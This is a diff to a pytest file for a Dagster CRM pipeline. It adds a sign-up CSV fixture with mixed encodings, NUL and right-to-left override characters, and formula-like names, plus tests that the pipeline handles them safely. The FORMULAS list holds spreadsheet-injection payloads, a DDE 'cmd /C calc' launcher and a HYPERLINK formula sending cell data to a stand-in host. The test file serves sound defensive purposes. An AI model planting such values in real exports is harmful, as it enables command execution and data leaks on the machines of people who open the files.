@@ -19,6 +19,34 @@ from tests.sample_pipeline import run_crm_pipeline, serving_market
 
 pytestmark = pytest.mark.slow
 
+EVENT_FILE = "formexport_2025-11-22_resilience-night.csv"
+HEADER = (
+    "email_address;first_name;last_name;company;job_title;registered_at;attended;marketing_opt_in"
+)
+FORMULAS = [
+    '=HYPERLINK("http://x.example/"&B2,"Open profile")',
+    "+SUM(1+1)",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1)",
+]
+
+
+def event_csv_bytes() -> bytes:
+    """A UTF-8 sign-up export with one Windows-1252 row pasted in, a NUL and a right-to-left
+    override in a name and a company, and formula-like names."""
+    tail = ";Engineer;2025-11-15T10:00:00Z;1;1\n"
+    lines = [
+        (HEADER + "\n").encode(),
+        ("jose.mueller@example.org;José;Müller;Acme" + tail).encode("utf-8"),
+        ("ana.strasse@example.org;Ana;Straße;Acme" + tail).encode("cp1252"),
+        ("eve.spoof@example.org;Eve;Mar\x00tin;Evil\u202eCorp" + tail).encode("utf-8"),
+    ]
+    for n, formula in enumerate(FORMULAS):
+        quoted = '"' + formula.replace('"', '""') + '"'
+        lines.append(f"formula{n}@example.org;{quoted};Person;Acme{tail}".encode())
+    return b"".join(lines)
+
+
 POISON = {
     "action": "job_created",
     "payload": {"job": {"id": {"nested": [1, 2]}, "opened_at": "not a date"}},
@@ -41,12 +69,19 @@ def night(tmp_path_factory) -> dict:
     )
     try:
         with serving_market(env, market) as apis:
+            (data / "landing" / "events" / EVENT_FILE).write_bytes(event_csv_bytes())
             apis.greenhouse.inject_faults(["503"] * 1000)
             apis.pdl.clear_request_log()
             with dg.DagsterInstance.ephemeral() as instance:
                 result = run_crm_pipeline(instance)
             pdl_requests = list(apis.pdl.request_log)
-        yield {"result": result, "db": os.environ["TALENT_CRM_DB"], "pdl_requests": pdl_requests}
+            pdl_configured = bool(os.environ.get("PDL_API_KEY"))
+        yield {
+            "result": result,
+            "db": os.environ["TALENT_CRM_DB"],
+            "pdl_requests": pdl_requests,
+            "pdl_configured": pdl_configured,
+        }
     finally:
         env.undo()
 
@@ -103,7 +138,7 @@ def test_the_poison_web_hook_is_quarantined(night) -> None:
 
 
 def test_pdl_is_never_asked_by_the_nightly_run(night) -> None:
-    assert os.environ.get("PDL_API_KEY") is None  # the fixture restored the environment
+    assert night["pdl_configured"]  # the key was set: only the job selection kept PDL out
     assert night["pdl_requests"] == []
 
 
@@ -129,3 +164,52 @@ def test_an_explicit_pdl_run_does_ask(tmp_path: Path, isolated_env, monkeypatch)
             )
         assert explicit.success
         assert 0 < len(apis.pdl.request_log) <= 5
+
+
+def test_mixed_encoding_names_land_correctly_and_are_counted(night) -> None:
+    db = night["db"]
+    names = dict(
+        query(
+            db,
+            "select primary_email, full_name from crm.contacts where primary_email in "
+            "('jose.mueller@example.org', 'ana.strasse@example.org')",
+        )
+    )
+    assert names == {
+        "jose.mueller@example.org": "José Müller",
+        "ana.strasse@example.org": "Ana Straße",
+    }
+    [(encoding,)] = query(
+        db, f"select encoding from raw.processed_files where file_name = '{EVENT_FILE}'"
+    )
+    assert encoding == "utf-8+cp1252"
+    [event] = [
+        e
+        for e in night["result"].get_asset_materialization_events()
+        if e.asset_key == dg.AssetKey(["raw", "event_csv_registrations"])
+    ]
+    assert event.materialization.metadata["lines_decoded_as_windows_1252"].value == 1
+
+
+def test_nul_and_bidi_overrides_never_reach_contacts(night) -> None:
+    db = night["db"]
+    assert query(
+        db,
+        "select count(*) from crm.contacts where contains(full_name, chr(0)) "
+        "or contains(full_name, chr(8238)) or contains(current_company, chr(8238)) "
+        "or contains(current_company, chr(0))",
+    ) == [(0,)]
+    assert query(
+        db,
+        "select full_name, current_company from crm.contacts "
+        "where primary_email = 'eve.spoof@example.org'",
+    ) == [("Eve Martin", "EvilCorp")]
+
+
+def test_formula_names_stay_raw_in_the_database(night) -> None:
+    rows = query(
+        night["db"],
+        "select first_name from staging.stg_event_csv__registrations "
+        "where email like 'formula%@example.org' order by email",
+    )
+    assert [r[0] for r in rows] == FORMULAS
